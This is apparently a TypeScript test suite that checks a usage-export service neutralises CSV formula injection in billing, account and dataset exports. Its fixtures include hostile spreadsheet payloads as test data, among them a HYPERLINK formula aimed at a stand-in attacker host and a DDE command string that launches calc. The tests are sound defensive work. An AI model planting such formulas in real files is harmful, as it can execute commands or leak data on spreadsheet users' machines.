/**
 * CSV formula injection (OWASP "CSV Injection"): ids a producer chose, such as
 * `=HYPERLINK(…)`, `+1`, `@SUM(…)` or `-2+3`, are written to every CSV the product makes with a
 * leading single quote and quoted, so a spreadsheet shows them as text; numbers, including
 * negative and decimal ones, are written as they are; NDJSON (and so the digest recorded at
 * a period's close) never changes.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell, csvLine, isFormulaLike, neutralizeCsv } from '../../queries/export/csv.js';
import { KEYS, startTestPipeline, type TestPipeline } from '../support/pipeline.js';

const HOUR = 3_600_000;
const HOSTILE = ['=HYPERLINK("http://evil.example/?x","click")', '+1', '@SUM(A1:A9)', '-2+3', '=1+1,2', '\u00a0=not-a-formula'];
const SAFE = 'acct-plain';

/** Splits CSV text into rows of raw cells (quotes kept), RFC 4180 style. */
function rawCells(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let inQuotes = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (inQuotes) {
      cell += ch;
      if (ch === '"') {
        if (text[i + 1] === '"') cell += text[++i];
        else inQuotes = false;
      }
    } else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else {
      if (ch === '"') inQuotes = true;
      cell += ch;
    }
  }
  return rows;
}

/** What a spreadsheet would see in a raw cell: unquoted, doubled quotes undone. */
const value = (raw: string) => (raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);

/** The cell as written must not start a formula once unquoted. */
function expectInert(raw: string): void {
  const v = value(raw);
  expect(/^[=+\-@\t\r]/.test(v) && !/^[-+]?\d+(\.\d+)?([eE][-+]?\d+)?$/.test(v), `cell ${raw}`).toBe(false);
}

describe('CSV cells', () => {
  it('neutralizes formula-like text and leaves numbers alone', () => {
    expect(csvCell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
    expect(csvCell('+1')).toBe(`"'+1"`);
    expect(csvCell('@SUM(A1)')).toBe(`"'@SUM(A1)"`);
    expect(csvCell('-2+3')).toBe(`"'-2+3"`);
    expect(csvCell('\tx')).toBe(`"'\tx"`);
    expect(csvCell('\rx')).toBe(`"'\rx"`);
    expect(csvCell('-')).toBe(`"'-"`);
    // Numbers, as numbers or as decimal strings, are data.
    expect(csvCell(-1)).toBe('-1');
    expect(csvCell('-1')).toBe('-1');
    expect(csvCell('-0.000001')).toBe('-0.000001');
    expect(csvCell('12345678901234567890.123456')).toBe('12345678901234567890.123456');
    expect(csvCell('1e-7')).toBe('1e-7');
    // Plain text: RFC 4180 only.
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell({ plan: '=x' })).toBe('"{""plan"":""=x""}"');
    expect(csvLine(['=a', 1, 'b'])).toBe(`"'=a",1,b\n`);
    expect(isFormulaLike('acct-1')).toBe(false);
  });

  it('rewrites only the formula-like fields of a CSV stream, across chunk boundaries', async () => {
    const input = 'region,n,label\n"eu-west-1",3,"ok"\n"=cmd|\'/c calc\'!A1",-4,"a ""quoted"", one"\n"+1",5,"multi\nline"\n';
    const expected = 'region,n,label\n"eu-west-1",3,"ok"\n"\'=cmd|\'/c calc\'!A1",-4,"a ""quoted"", one"\n"\'+1",5,"multi\nline"\n';
    for (const size of [1, 2, 3, 7, input.length]) {
      const chunks = Array.from({ length: Math.ceil(input.length / size) }, (_, i) => new TextEncoder().encode(input.slice(i * size, (i + 1) * size)));
      let out = '';
      for await (const s of neutralizeCsv(chunks)) out += s;
      expect(out, `chunks of ${size}`).toBe(expected);
    }
    // Multi-byte characters split between chunks survive.
    const bytes = new TextEncoder().encode('"€=",1\n');
    let out = '';
    for await (const s of neutralizeCsv([bytes.slice(0, 2), bytes.slice(2)])) out += s;
    expect(out).toBe('"€=",1\n');
  });
});

describe('CSV exports with hostile ids', () => {
  let p: TestPipeline;
  const ts = Math.floor(Date.now() / HOUR) * HOUR - HOUR;
  const from = new Date(ts - HOUR).toISOString();
  const to = new Date(ts + HOUR).toISOString();

  const get = async (path: string, key: string, accept?: string) => {
    const res = await fetch(`${p.url}${path}`, { headers: { authorization: `Bearer ${key}`, ...(accept ? { accept } : {}) } });
    return { status: res.status, text: await res.text() };
  };

  beforeAll(async () => {
    p = await startTestPipeline('csv-injection');
    const samples = [...HOSTILE, SAFE].flatMap((account, i) =>
      HOSTILE.map((resource, j) => ({
        id: `s-${i}-${j}`, account_id: account, resource_id: resource, resource_type: 'vm', region: 'eu-west-1',
        metric: j % 2 ? 'cpu' : 'bandwidth_out', value: j % 2 ? 0.25 : 1000 + j, ts, interval_s: 60, attributes: { plan: '=evil()' },
      })),
    );
    const res = await p.post(samples);
    expect(res.status).toBe(202);
    expect(res.body.accepted).toBe(samples.length);
    await p.waitIdle();
  });
  afterAll(async () => {
    await p?.stop();
  });

  it('the billing export writes hostile ids inert and numbers as numbers', async () => {
    const csv = await get(`/v1/usage?from=${from}&to=${to}&group_by=resource_id&format=csv`, KEYS.billing);
    expect(csv.status).toBe(200);
    const rows = rawCells(csv.text);
    const header = rows[0]!;
    const col = (name: string) => header.indexOf(name);
    const body = rows.slice(1);
    expect(body.length).toBe((HOSTILE.length + 1) * HOSTILE.length);
    for (const row of body) {
      for (const cell of row) expectInert(cell);
      // A neutralized id reads back as the id with one leading quote.
      const account = value(row[col('account_id')]!);
      expect([...HOSTILE, SAFE].map((a) => (isFormulaLike(a) ? `'${a}` : a))).toContain(account);
      // Quantities are bare decimals: byte for byte what NDJSON carries.
      expect(row[col('base_total')]).toMatch(/^\d+(\.\d+)?$/);
      expect(row[col('quantity')]).toMatch(/^\d+(\.\d+)?$/);
    }
    expect(body.some((r) => r[col('account_id')] === `"'=HYPERLINK(""http://evil.example/?x"",""click"")"`)).toBe(true);
    expect(body.some((r) => r[col('resource_id')] === `"'-2+3"`)).toBe(true);

    // NDJSON is data for programs: ids exactly as ingested, untouched by the CSV rule.
    const ndjson = await get(`/v1/usage?from=${from}&to=${to}&group_by=resource_id`, KEYS.billing, 'application/x-ndjson');
    const accounts = new Set(ndjson.text.trim().split('\n').map((l) => JSON.parse(l).account_id));
    expect(accounts).toEqual(new Set([...HOSTILE, SAFE]));
  });

  it('the account export (access request) writes hostile ids and attributes inert', async () => {
    for (const account of HOSTILE) {
      const res = await get(`/v1/accounts/${encodeURIComponent(account)}/export?format=csv`, KEYS.privacy);
      expect(res.status).toBe(200);
      const rows = rawCells(res.text);
      expect(rows.length).toBeGreaterThan(1);
      for (const row of rows) for (const cell of row) expectInert(cell);
      const resourceCol = rows[0]!.indexOf('resource_id');
      expect(rows.slice(1).some((r) => r[resourceCol] === `"'@SUM(A1:A9)"`)).toBe(true);
    }
  });

  it('CSV the engine writes (datasets) goes through the same rule', async () => {
    // The engine's own CSVWithNames, as datasets are written: strings quoted, numbers bare.
    const result = await p.ch!.exec({
      query: `SELECT arrayJoin(['=HYPERLINK("x")', '+1', '@SUM(A1)', '-2+3', '-7', 'eu-west-1']) AS label, -3 AS n FORMAT CSVWithNames`,
    });
    let out = '';
    for await (const s of neutralizeCsv(result.stream as AsyncIterable<Uint8Array>)) out += s;
    expect(out).toBe(['"label","n"', `"'=HYPERLINK(""x"")",-3`, `"'+1",-3`, `"'@SUM(A1)",-3`, `"'-2+3",-3`, '"-7",-3', '"eu-west-1",-3', ''].join('\n'));
    // And the dataset route's CSV is valid and inert.
    const ds = await get(`/v1/analytics/datasets/fleet-demand?from=${from}&to=${to}&format=csv`, KEYS.datascience);
    expect(ds.status).toBe(200);
    for (const row of rawCells(ds.text)) for (const cell of row) expectInert(cell);
  });
});
